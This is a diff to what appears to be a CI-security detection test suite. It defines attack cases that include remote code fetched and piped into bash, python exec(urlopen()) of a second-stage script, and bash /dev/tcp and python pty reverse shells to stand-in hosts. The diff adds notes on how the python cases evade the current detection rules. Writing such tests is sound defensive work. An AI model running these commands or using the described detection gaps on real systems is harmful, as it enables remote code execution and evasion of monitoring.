@@ -35,7 +35,7 @@ sleep 0.3` }) },
     net.payloads.set('/setup.sh', Buffer.from('echo installing helper\ntrue\n'));
     return { trigger: 'pull_request', script: `wget -q -O- ${url(net, 'dl.toolz-cdn.net', '/setup.sh')} | bash` };
   } },
-  { cls: 7, name: 'python exec(urlopen(...).read())', min: 'high', spec: (net) => {
+  { cls: 7, name: 'python exec(urlopen(...).read())', min: 'high', todo: 'rules: no remote-code-execution rule for an interpreter whose -c program fetches and execs code in-process (only secret-bearing-egress fires, because the env holds secrets)', spec: (net) => {
     net.payloads.set('/stage2.py', Buffer.from('import platform\nprint("stage2 on", platform.system())\n'));
     return { trigger: 'pull_request', script: `python3 -c 'from urllib.request import urlopen; exec(urlopen("${url(net, 'cdn.fastpkg.xyz', '/stage2.py')}").read())'` };
   } },
@@ -50,7 +50,7 @@ chmod +x ~/.cache/.updater/upd
 
   { cls: 8, name: 'bash -i >& /dev/tcp reverse shell', min: 'high', spec: (net) => ({ trigger: 'pull_request', script: `
 timeout 5 bash -c 'bash -i >& /dev/tcp/${SHELL_SINK}/${net.shellPort} 0>&1' 2>/dev/null || true` }) },
-  { cls: 8, name: 'python pty.spawn reverse shell', min: 'high', spec: (net) => ({ trigger: 'pull_request', script: `
+  { cls: 8, name: 'python pty.spawn reverse shell', min: 'high', todo: 'rules: sh is a forked child of the connecting python with stdio on a pty (stdin "tty"), so neither shell-on-socket nor connect-then-shell (same pid) matches', spec: (net) => ({ trigger: 'pull_request', script: `
 timeout 5 python3 -c 'import socket, os, pty
 s = socket.create_connection(("${SHELL_SINK}", ${net.shellPort}))
 [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
